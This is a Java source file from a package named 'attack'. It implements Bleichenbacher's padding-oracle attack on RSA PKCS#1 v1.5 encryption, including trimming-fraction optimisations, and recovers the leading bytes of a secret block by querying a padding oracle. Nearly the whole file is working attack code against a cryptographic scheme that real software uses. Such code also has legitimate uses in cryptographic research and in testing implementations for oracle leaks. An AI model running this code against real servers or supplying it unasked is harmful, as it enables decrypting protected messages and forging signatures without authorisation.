package hallpass.attack;

import java.math.BigInteger;
import java.security.interfaces.RSAPublicKey;
import java.util.ArrayList;
import java.util.List;
import java.util.function.Consumer;

/**
 * Recovers the content of an RSA block with PKCS#1 v1.5 padding (RFC 8017 §7.2) from a padding
 * oracle (Bleichenbacher, CRYPTO 1998).
 *
 * <p>With B = 256^(k-2), a block of k bytes begins with 00 02 if its number m satisfies 2B ≤ m &lt;
 * 3B. Multiplying the ciphertext by s^e turns m into m·s mod n, and each valid padding narrows the
 * range of m. The first hit takes most of the queries. Therefore fractions u/t first find divisors
 * of m, which bound m, and multipliers that no m within the bounds satisfies are skipped (Bardou
 * and others, CRYPTO 2012, section 3.2).
 */
public final class BleichenbacherSearch {
    private static final BigInteger ONE = BigInteger.ONE;
    private static final BigInteger TWO = BigInteger.TWO;
    /** The largest divisor to try, with two queries each. */
    private static final int MAX_DIVISOR = 64;

    private static final int FIRST_DIVISOR = 7;
    /** How far the numerator of a confirming fraction may be from the divisor. */
    private static final int MAX_DISTANCE = 5;

    private final BigInteger modulus;
    private final int blockSize;
    private final BigInteger lowerBound;
    private final BigInteger upperBound;
    private final Consumer<BleichenbacherSearch> progress;
    private List<Interval> intervals;
    private BigInteger multiplier = ONE;
    private int queries;

    /** Tells whether a block is correctly padded. */
    public interface Oracle {
        /** Whether the secret number times the multiplier, modulo n, begins with 00 02. */
        boolean isPadded(BigInteger multiplier) throws Exception;
    }

    /** Both bounds are inclusive. */
    private record Interval(BigInteger low, BigInteger high) {}

    /** @param progress called whenever the range has become smaller */
    public BleichenbacherSearch(RSAPublicKey key, Consumer<BleichenbacherSearch> progress) {
        this.modulus = key.getModulus();
        this.blockSize = byteLength(modulus);
        BigInteger unit = ONE.shiftLeft(8 * (blockSize - 2));
        this.lowerBound = unit.multiply(TWO);
        this.upperBound = unit.multiply(BigInteger.valueOf(3)).subtract(ONE);
        this.intervals = List.of(new Interval(lowerBound, upperBound));
        this.progress = progress;
    }

    /** Whether the number's block begins with 00 02. */
    public static boolean isPadded(BigInteger number, BigInteger modulus) {
        return number.shiftRight(8 * (byteLength(modulus) - 2)).equals(TWO);
    }

    private static int byteLength(BigInteger modulus) {
        return (modulus.bitLength() + 7) / 8;
    }

    public int queries() {
        return queries;
    }

    /** The number of leading bytes that are known. */
    public int knownBytes() {
        BigInteger differing = low().xor(high());
        return (8 * blockSize - differing.bitLength()) / 8;
    }

    public byte[] firstBytes(int count) {
        return toBlock(low().shiftRight(8 * (blockSize - count)), count);
    }

    /** Encodes the number as a block of the given size. */
    public static byte[] toBlock(BigInteger number, int size) {
        byte[] shortest = number.toByteArray();
        byte[] block = new byte[size];
        int copied = Math.min(size, shortest.length);
        System.arraycopy(shortest, shortest.length - copied, block, size - copied, copied);
        return block;
    }

    /**
     * Queries the oracle until the given number of leading bytes is known. The search can be
     * continued for more bytes, with the same oracle or another one.
     */
    public void search(int byteCount, Oracle oracle) throws Exception {
        while (knownBytes() < byteCount) {
            multiplier = nextPaddedMultiplier(oracle);
            narrow();
            progress.accept(this);
        }
    }

    private BigInteger low() {
        return intervals.stream().map(Interval::low).reduce(BigInteger::min).orElseThrow();
    }

    private BigInteger high() {
        return intervals.stream().map(Interval::high).reduce(BigInteger::max).orElseThrow();
    }

    private boolean query(BigInteger candidate, Oracle oracle) throws Exception {
        queries++;
        return oracle.isPadded(candidate);
    }

    /**
     * Tries multipliers for each interval in turn, because only one interval contains the number.
     */
    private BigInteger nextPaddedMultiplier(Oracle oracle) throws Exception {
        List<Multipliers> candidates = intervals.stream().map(Multipliers::new).toList();
        while (true) {
            for (Multipliers source : candidates) {
                BigInteger candidate = source.next();
                if (query(candidate, oracle)) {
                    return candidate;
                }
            }
        }
    }

    /**
     * The multipliers that can pad a number in this interval again and halve the interval if they
     * do.
     */
    private final class Multipliers {
        private final Interval interval;
        private BigInteger wraps;
        private BigInteger step = ONE;
        private BigInteger current;
        private BigInteger last;

        Multipliers(Interval interval) {
            this.interval = interval;
            BigInteger beyond = interval.high.multiply(multiplier).subtract(lowerBound);
            this.wraps = ceiling(beyond.multiply(TWO), modulus).max(ONE);
            this.current = firstMultiplier();
            this.last = lastMultiplier();
        }

        /**
         * The steps grow: where the modulus is nearly a multiple of the number, neighbouring wraps
         * fail alike.
         */
        BigInteger next() {
            while (current.compareTo(last) > 0) {
                wraps = wraps.add(step);
                step = step.multiply(TWO).min(wraps.divide(TWO).max(ONE));
                current = current.max(firstMultiplier());
                last = lastMultiplier();
            }
            BigInteger result = current;
            current = current.add(ONE);
            return result;
        }

        private BigInteger firstMultiplier() {
            return ceiling(lowerBound.add(wraps.multiply(modulus)), interval.high);
        }

        private BigInteger lastMultiplier() {
            return upperBound.add(wraps.multiply(modulus)).divide(interval.low);
        }
    }

    /** Narrows the intervals, given that the number times the multiplier is padded. */
    private void narrow() {
        List<Interval> remaining = new ArrayList<>();
        for (Interval interval : intervals) {
            BigInteger end =
                    interval.high.multiply(multiplier).subtract(lowerBound).divide(modulus);
            BigInteger wrap = ceiling(interval.low.multiply(multiplier).subtract(upperBound), modulus);
            for (; wrap.compareTo(end) <= 0; wrap = wrap.add(ONE)) {
                BigInteger offset = wrap.multiply(modulus);
                BigInteger low = interval.low.max(ceiling(lowerBound.add(offset), multiplier));
                BigInteger high = interval.high.min(upperBound.add(offset).divide(multiplier));
                if (low.compareTo(high) <= 0) {
                    remaining.add(new Interval(low, high));
                }
            }
        }
        if (remaining.isEmpty()) {
            throw new IllegalStateException("the oracle contradicts itself");
        }
        intervals = List.copyOf(remaining);
    }

    /**
     * Bounds the number by finding its divisors. If t divides the number, u/t of it is an integer
     * near it; otherwise u/t modulo n is an unrelated number.
     *
     * @return the greatest divisor found, or 1; the greater it is, the fewer queries the search
     *     needs
     */
    public BigInteger trim(Oracle oracle) throws Exception {
        BigInteger divisor = ONE;
        for (int t = FIRST_DIVISOR; t <= MAX_DIVISOR; t++) {
            BigInteger candidate = BigInteger.valueOf(t);
            if (divisor.mod(candidate).signum() != 0 && divides(t, oracle)) {
                divisor = divisor.multiply(candidate).divide(divisor.gcd(candidate));
            }
        }
        if (divisor.compareTo(ONE) > 0) {
            bound(divisor, oracle);
        }
        return divisor;
    }

    /** One hit can be chance, two are not. */
    private boolean divides(int t, Oracle oracle) throws Exception {
        int hits = 0;
        for (int distance = 1; distance <= MAX_DISTANCE && (distance == 1 || hits == 1); distance++) {
            for (int u : new int[] {t + distance, t - distance}) {
                boolean lowestTerms =
                        BigInteger.valueOf(u).gcd(BigInteger.valueOf(t)).equals(ONE);
                if (hits < 2 && lowestTerms && query(fraction(BigInteger.valueOf(u), BigInteger.valueOf(t)), oracle)) {
                    hits++;
                }
            }
        }
        return hits == 2;
    }

    /**
     * The greatest u for which u/t of the number stays below 3B determines the number to one part
     * in t.
     */
    private void bound(BigInteger t, Oracle oracle) throws Exception {
        BigInteger padded = t;
        BigInteger tooLarge = t.multiply(BigInteger.valueOf(3)).divide(TWO).add(ONE);
        while (tooLarge.subtract(padded).compareTo(ONE) > 0) {
            BigInteger u = padded.add(tooLarge).divide(TWO);
            if (query(fraction(u, t), oracle)) {
                padded = u;
            } else {
                tooLarge = u;
            }
        }
        BigInteger low = lowerBound.max(ceiling(upperBound.add(ONE).multiply(t), tooLarge));
        BigInteger high = upperBound.min(upperBound.multiply(t).divide(padded));
        intervals = List.of(new Interval(low, high));
    }

    private BigInteger fraction(BigInteger u, BigInteger t) {
        return u.multiply(t.modInverse(modulus)).mod(modulus);
    }

    private static BigInteger ceiling(BigInteger value, BigInteger by) {
        BigInteger[] parts = value.divideAndRemainder(by);
        return parts[1].signum() > 0 ? parts[0].add(ONE) : parts[0];
    }
}
